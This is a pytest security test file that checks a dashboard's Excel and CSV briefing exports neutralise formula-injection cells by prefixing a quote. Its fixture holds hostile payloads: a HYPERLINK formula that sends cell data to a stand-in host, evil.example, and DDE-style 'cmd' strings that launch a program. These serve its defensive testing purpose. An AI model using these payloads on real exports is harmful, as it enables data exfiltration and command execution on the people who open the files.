"""Issue 25 item 6: a name or title that starts with =, +, -, @ (or tab / CR) never becomes a live formula in
the leader's Excel or CSV (OWASP CSV injection: such a cell is prefixed with a single quote)."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from dashboard.models import Category, Community, Grid
from dashboard.services.alerts import raise_alert
from dashboard.services import exports
from tests.security.conftest import POSITION_A

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {"category": '=HYPERLINK("http://evil.example/?"&A1,"查看")', "major": "+1+cmd|' /C calc'!A0",
            "grid": "@SUM(1+9)*cmd|' /C calc'!A0", "community": "\t=1+1", "alert": "-2+3+cmd|' /C calc'!A0"}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-",
                                   "\uff1d1+1", "\uff0bcmd", "\uff0d2+3", "\uff20SUM(A1)"])  # ＝＋－＠ (IME)
def test_neutralise_cell_prefixes_a_quote(value):
    assert exports.neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["普通文本", "C2026", "", None, 12, -3.5, 0.25, "a=b", " =1"])
def test_neutralise_cell_leaves_the_rest(value):
    assert exports.neutralise_cell(value) == value


@pytest.fixture(scope="module")
def hostile(world):
    """Names and a title of the attacker's choosing on what the day's brief lists."""
    with world.services.db.write() as s:
        cat = s.get(Category, "0101")
        cat.name, cat.major_name = PAYLOADS["category"], PAYLOADS["major"]
        s.get(Grid, world.ids["grid_a"]).name = PAYLOADS["grid"]
        s.get(Community, world.ids["community_a"]).name = PAYLOADS["community"]
        raise_alert(s, source="rule", kind="probe", title=PAYLOADS["alert"], severity="extreme",
                    lat=POSITION_A[0], lon=POSITION_A[1], grid_id=world.ids["grid_a"],
                    community_id=world.ids["community_a"])
        assert s.scalar(select(Category.name).where(Category.code == "0101")) == PAYLOADS["category"]
    return world.client("leader")


def _live(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def test_excel_export_has_no_formula(hostile):
    r = hostile.get("/api/v1/briefing/export.xlsx")
    assert r.status_code == 200, r.get_data(as_text=True)
    wb = load_workbook(io.BytesIO(r.data))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert not _live(cell.value), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    # the hostile texts are there, defused (so the test read real rows)
    assert "'" + PAYLOADS["category"] in seen and "'" + PAYLOADS["major"] in seen
    assert "'" + PAYLOADS["grid"] in seen


def test_csv_export_has_no_formula(hostile):
    r = hostile.get("/api/v1/briefing/export.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert cells, "the case list is empty"
    for c in cells:
        assert not _live(c), c
    assert "'" + PAYLOADS["category"] in cells and "'" + PAYLOADS["grid"] in cells
